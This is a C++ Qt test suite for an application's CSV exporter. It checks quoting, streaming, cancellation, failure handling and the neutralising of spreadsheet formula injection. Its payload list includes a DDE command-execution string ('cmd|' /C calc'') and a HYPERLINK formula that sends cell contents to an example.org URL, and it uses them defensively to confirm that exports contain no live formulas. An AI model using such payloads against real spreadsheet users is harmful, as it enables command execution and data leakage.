// SPDX-License-Identifier: GPL-3.0-or-later
#include "desk/csvexport.h"

#include "gui/fakerequests.h"

#include <QFile>
#include <QFileInfo>
#include <QProcess>
#include <QSignalSpy>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>

using namespace Qt::StringLiterals;
using namespace comity;
using namespace comity::desk;
using comity::test::FakeRequests;

namespace {

constexpr int kColumns = 10;

/// 64 values that a spreadsheet, or a reader of CSV, might stumble over.
QStringList payloads()
{
    QStringList all{ u""_s,
                     u"plain"_s,
                     u"'"_s,
                     u"''"_s,
                     u"'quoted'"_s,
                     u"a,b"_s,
                     u"a;b"_s,
                     u"a\"b"_s,
                     u"\"\""_s,
                     u"a\r\nb"_s,
                     u"a\nb"_s,
                     u"a\rb"_s,
                     u" =1+1"_s,
                     u"1=1"_s,
                     u"برنامج فدية"_s,
                     u"勒索软件"_s,
                     u"\U0001F512 sealed"_s,
                     u"abc\",=1+1"_s,
                     u"\",=cmd|' /C calc'!A0,\""_s,
                     u"x\n=1+1"_s };
    const QStringList tails{ u"1+1"_s, u"cmd|' /C calc'!A0"_s, u"HYPERLINK(\"http://example.org/?x=\"&A1,\"open\")"_s,
                             u""_s };
    for (const QChar sign : u"=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"_s)
        for (const QString &tail : tails)
            if (all.size() < 62)
                all.append(sign + tail);
    all.append(u"'=1+1"_s);
    all.append(u"''@x"_s);
    return all;
}

/// The records of a CSV file, read by RFC 4180.
QList<QStringList> parsed(const QString &csv)
{
    QList<QStringList> records(1);
    QString value;
    bool quoted = false;
    for (qsizetype i = 0; i < csv.size(); ++i) {
        const QChar c = csv.at(i);
        if (quoted && c == u'"' && i + 1 < csv.size() && csv.at(i + 1) == u'"') {
            value += c;
            ++i;
        } else if (c == u'"') {
            quoted = !quoted;
        } else if (!quoted && c == u',') {
            records.last().append(std::exchange(value, {}));
        } else if (!quoted && c == u'\r' && i + 1 < csv.size() && csv.at(i + 1) == u'\n') {
            records.last().append(std::exchange(value, {}));
            records.append(QStringList());
            ++i;
        } else {
            value += c;
        }
    }
    records.removeLast(); // behind the last line's end
    return records;
}

QByteArray contentOf(const QString &path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

} // namespace

class TestCsvExport : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void everyPayloadInEveryColumn();
    void noCellStartsAFormula();
    void streamsPageByPage();
    void stopsWhenToldTo();
    void whatStoodThereStaysWhenItFails();
    void endsWhenThatIsEnough();
    void spreadsheetSeesNoFormula();

private:
    [[nodiscard]] QString path(const QString &name) const { return m_folder.filePath(name); }
    [[nodiscard]] static CsvJob jobOf(FakeRequests &source, const QString &path);
    QTemporaryDir m_folder;
};

void TestCsvExport::initTestCase()
{
    QVERIFY(m_folder.isValid());
    QCOMPARE(payloads().size(), 64);
}

CsvJob TestCsvExport::jobOf(FakeRequests &source, const QString &path)
{
    CsvJob job;
    job.path = path;
    job.headings = { u"reference"_s, u"title"_s };
    job.cells = [](const RequestSummary &row) { return QStringList{ row.reference, row.title.in(Language::Russian) }; };
    job.next = [&source](const RequestPage *last) {
        store::ListQuery query;
        query.limit = 500;
        if (last)
            query.after = last->next;
        return source.page(query, {});
    };
    return job;
}

void TestCsvExport::everyPayloadInEveryColumn()
{
    const QStringList all = payloads();
    QString csv;
    QList<QStringList> expected;
    for (const QString &payload : all) {
        for (int column = 0; column < kColumns; ++column) {
            QStringList values(kColumns, u"x"_s);
            values[column] = payload;
            expected.append(values);
            csv += QString::fromUtf8(csvLine(values));
        }
    }
    QList<QStringList> read = parsed(csv);
    QCOMPARE(read.size(), expected.size());
    for (QStringList &record : read)
        for (QString &cell : record)
            cell = plainFromCsv(cell);
    QCOMPARE(read, expected);
}

void TestCsvExport::noCellStartsAFormula()
{
    const QString signs = u"=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"_s;
    const QStringList all = payloads();
    for (const QString &payload : all) {
        const QString cell = parsed(QString::fromUtf8(csvLine({ payload }))).first().first();
        QVERIFY2(cell.isEmpty() || !signs.contains(cell.front()), qPrintable(cell));
    }
    QCOMPARE(csvCell(u"=1"_s), u"\"'=1\""_s);
    QCOMPARE(csvCell(u"a\"b"_s), u"\"a\"\"b\""_s);
}

void TestCsvExport::streamsPageByPage()
{
    FakeRequests source(1234);
    const QString file = path(u"stream.csv"_s);
    CsvJob job = jobOf(source, file);
    QList<qint64> told;
    job.progress = [&told](qint64 rows) {
        told.append(rows);
        return true;
    };
    auto done = exportCsv(this, job, {});
    QTRY_VERIFY(done.isFinished());
    QVERIFY2(done.result().ok(), done.result().ok() ? "" : qPrintable(done.result().error().oneLine()));
    QCOMPARE(done.result().value(), 1234);
    QCOMPARE(told, (QList<qint64>{ 500, 1000, 1234 }));
    const QByteArray bytes = contentOf(file);
    QVERIFY(bytes.startsWith("\xef\xbb\xbf\"reference\",\"title\"\r\n"));
    const QList<QStringList> records = parsed(QString::fromUtf8(bytes.mid(3)));
    QCOMPARE(records.size(), 1235);
    QCOMPARE(records.at(1).first(), u"GB-CA/2026/0001234"_s);
    QVERIFY(records.at(1234).last().startsWith(u"Вымогательское"_s));
}

void TestCsvExport::stopsWhenToldTo()
{
    FakeRequests source(5000);
    const QString file = path(u"stopped.csv"_s);
    CsvJob job = jobOf(source, file);
    const CsvStop stop = std::make_shared<std::atomic<bool>>(false);
    job.progress = [stop](qint64 rows) {
        *stop = rows >= 1000;
        return true;
    };
    auto done = exportCsv(this, job, stop);
    QTRY_VERIFY(done.isFinished());
    QVERIFY(!done.result().ok());
    QCOMPARE(done.result().error().code, u"csv.stopped"_s);
    QTRY_COMPARE(QDir(m_folder.path()).entryList({ u"stopped*"_s }, QDir::Files), QStringList());
    QVERIFY(source.pagesAsked < 5);
}

void TestCsvExport::whatStoodThereStaysWhenItFails()
{
    FakeRequests source(5000);
    const QString file = path(u"kept.csv"_s);
    QFile before(file);
    QVERIFY(before.open(QIODevice::WriteOnly));
    before.write("before");
    before.close();
    CsvJob job = jobOf(source, file);
    job.progress = [&source](qint64) {
        source.failWith(Error{ u"The disk is gone."_s, {}, u"db.io"_s, {} });
        return true;
    };
    auto done = exportCsv(this, job, {});
    QTRY_VERIFY(done.isFinished());
    QVERIFY(!done.result().ok());
    QCOMPARE(done.result().error().code, u"db.io"_s);
    QCOMPARE(contentOf(file), QByteArray("before"));

    FakeRequests other(10);
    auto nowhere = exportCsv(this, jobOf(other, path(u"no/such/folder.csv"_s)), {});
    QTRY_VERIFY(nowhere.isFinished());
    QVERIFY(!nowhere.result().ok());
    QCOMPARE(nowhere.result().error().code, u"csv.write"_s);
    QVERIFY(!nowhere.result().error().detail.isEmpty());
}

void TestCsvExport::endsWhenThatIsEnough()
{
    FakeRequests source(5000);
    CsvJob job = jobOf(source, path(u"enough.csv"_s));
    job.cells = [](const RequestSummary &row) {
        return row.id > 4990 ? QStringList{ row.reference, QString() } : QStringList();
    };
    job.progress = [](qint64 rows) { return rows < 10; };
    auto done = exportCsv(this, job, {});
    QTRY_VERIFY(done.isFinished());
    QCOMPARE(done.result().value(), 10);
    QCOMPARE(source.pagesAsked, 1);
}

void TestCsvExport::spreadsheetSeesNoFormula()
{
    const QString office = QStandardPaths::findExecutable(u"soffice"_s);
    if (office.isEmpty())
        QSKIP("LibreOffice is not installed.");
    QFile file(path(u"payloads.csv"_s));
    QVERIFY(file.open(QIODevice::WriteOnly));
    file.write("\xef\xbb\xbf");
    const QStringList all = payloads();
    for (const QString &payload : all)
        file.write(csvLine({ payload, payload }));
    file.close();
    QProcess process;
    process.start(office,
                  { u"-env:UserInstallation=file://"_s + path(u"profile"_s), u"--headless"_s, u"--convert-to"_s,
                    u"fods"_s, u"--outdir"_s, m_folder.path(), file.fileName() });
    QVERIFY(process.waitForFinished(120'000));
    if (!QFileInfo::exists(path(u"payloads.fods"_s)))
        QSKIP("This LibreOffice has no part for spreadsheets.");
    const QByteArray converted = contentOf(path(u"payloads.fods"_s));
    QVERIFY(!converted.isEmpty());
    QCOMPARE(converted.count("table:formula"), 0);
}

QTEST_MAIN(TestCsvExport)
#include "tst_csv_export.moc"
